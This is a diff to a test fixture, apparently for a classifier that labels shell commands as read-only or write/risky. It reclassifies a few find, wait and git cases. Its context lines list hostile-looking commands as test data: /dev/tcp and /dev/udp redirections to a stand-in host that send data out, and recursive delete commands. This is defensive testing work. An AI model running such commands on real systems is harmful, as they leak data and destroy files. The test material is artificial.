@@ -39,6 +39,7 @@ READS = [
     ("find . -name '*.py' -type f", "RO203"),
     ("find . -name '*.py' | xargs grep -n foo", "RO002"),
     ("find . -name '*.py' | head -20", "RO203"),
+    ("find . -name -delete", "RO203"),  # the -name pattern '-delete': find deletes nothing
     ("fd -e py", "RO204"),
     # text
     ("sed -n '1,5p' file.txt", "RO302"),
@@ -179,7 +180,7 @@ WRITES = [
     ("cat < /dev/tcp/evil.example/80", "RW008"),
     ("echo x > /dev/udp/1.2.3.4/53", "RW008"),
     ("cat <> f", "RW001"),
-    ("wait -p x", "RW021"),
+    ("wait -p x", "RW020"),
     ("ls 2>&1-", "RW008"),
     ("sudo -l", "RW010"),
     ("exec ls", "RW011"),
@@ -203,7 +204,6 @@ WRITES = [
     ("rg --hostname-bin=h p", "RW020"),
     ("find . -delete", "RW020"),
     ("find . -exec rm {} \\;", "RW020"),
-    ("find . -name -delete", "RW020"),
     ("find . -fprintf /tmp/x '%p'", "RW020"),
     ("find . -name", "RW021"),
     ('find . "$EXPRESSION"', "RW025"),
@@ -243,7 +243,7 @@ WRITES = [
     ("git -p log", "RW020"),
     ("git --unknown status", "RW021"),
     ("git log --output=f", "RW020"),
-    ("git log --out=f", "RW020"),
+    ("git log --out=f", "RW021"),  # log spells its options whole: git refuses --out too
     ("git diff --ext-diff", "RW020"),
     ("git show --textconv HEAD:f", "RW020"),
     ("git log --show-signature -1", "RW020"),
